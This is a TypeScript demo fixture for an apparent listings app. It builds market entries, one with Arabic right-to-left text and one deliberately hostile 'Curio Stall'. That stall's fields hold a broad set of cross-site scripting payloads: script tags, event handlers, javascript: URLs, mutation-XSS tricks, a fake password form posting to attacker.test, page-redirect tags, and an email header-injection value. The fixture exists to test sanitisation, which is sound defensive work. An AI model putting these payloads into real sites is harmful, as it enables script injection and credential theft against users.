import type { DemoBuilders } from './demo-hotel.ts';

/**
 * HTML that an attacker with a hotel's password could enter. The app must show its plain text only:
 * no dialog, no request to attacker.test, no change of the page.
 */
const HOSTILE = `<p>Keys without doors, a drawer of spectacles, <b onmouseover="alert('curio')">one glass eye</b>.</p>
<script>alert('curio')</script><script src="https://attacker.test/curio.js"></script>
<img src=x onerror="alert('curio')"><img src="//attacker.test/pixel.png" alt="">
<svg onload="alert('curio')"><script>alert('curio')</script><a xlink:href="javascript:alert('curio')"><text y="20">map</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert('curio')&gt;"></table></mtext></math>
<a href="javascript:alert('curio')">The stall’s list</a> <a href="java&#9;script:alert('curio')">Its prices</a> <a href="data:text/html,<script>alert('curio')</script>">Its catalogue</a>
<iframe src="https://attacker.test/frame"></iframe><iframe srcdoc="<script>alert('curio')</script>"></iframe><iframe src="https://www.youtube.com.attacker.test/embed/aqz-KE-bpKQ"></iframe>
<div style="position:fixed;inset:0;background:url(https://attacker.test/cover.png);z-index:9999" id="root" class="curio">Everything is for sale.</div>
<style>body{display:none}@import url(https://attacker.test/curio.css);</style><link rel="stylesheet" href="https://attacker.test/curio.css">
<form action="https://attacker.test/login"><input name="password" placeholder="Your password"><button formaction="javascript:alert('curio')">Sign in again</button></form>
<base href="https://attacker.test/"><meta http-equiv="refresh" content="0;url=https://attacker.test/">
<object data="https://attacker.test/curio.swf"></object><embed src="https://attacker.test/curio.swf">
<video src="javascript:alert('curio')" onplay="alert('curio')"></video><details open ontoggle="alert('curio')"><summary>More</summary></details>
<noscript><p title="</noscript><img src=x onerror=alert('curio')>"></p></noscript><template><script>alert('curio')</script></template>
<p>Sundays from nine, whatever the weather.</p>`;

/** Builds listings with other scripts and text directions, and one hostile listing. */
export const grandPlazaMarket = ({ category }: DemoBuilders) =>
  category('Lantern Market', 'market', 'Sundays from nine, under the railway arches')
    .text('Forty stalls, three of them with coffee. Bring a bag and small change.')
    .with({ at: [51.5201, -0.1327], tags: ['shopping', 'sunday', 'souvenirs'] })
    .containing(
      category(
        'بيت الشاي',
        'tea',
        'شاي بالنعناع وحلوى باللوز 🍵 — mint tea and almond sweets',
      ).with({
        at: [51.5203, -0.1331],
        slug: 'bayt-al-shay',
        description: `<p dir="rtl">أهلاً بكم في <strong>بيت الشاي</strong>، من التاسعة صباحاً حتى السادسة مساءً.</p><p>Sit down first, order when you have arrived. 🫖</p>`,
        phone: '+44 20 7946 0151',
        whatsapp: '+44 7700 900151',
        advert_type: 'gold',
        tags: ['tea house', 'شاي', 'arabic'],
      }),
      // Its summary contains a right-to-left override that is never closed.
      category('Curio Stall', 'antiques', 'Bought \u202Esdrawrof, sold for cash.').with({
        at: [51.5199, -0.1324],
        description: HOSTILE,
        phone: '+44 20 CALL-NOW;ext=1',
        whatsapp: 'javascript:alert(1)',
        email: 'stall@attacker.test?bcc=everybody@attacker.test%0D%0ASubject:curio',
        website: "javascript:alert('curio')",
        booking_link: "java\tscript:alert('curio')",
        tags: ['antiques', '<b>bold</b>'],
      }),
      category(
        'Sofia’s Sunday Flowers 💐',
        'flowers',
        'Whatever opened this morning, by the bunch.',
      )
        .text('Ask for paper if you have a train to catch.')
        .with({ at: [51.5202, -0.1325], advert_type: 'bronze', tags: ['bouquet', 'florist'] }),
    );
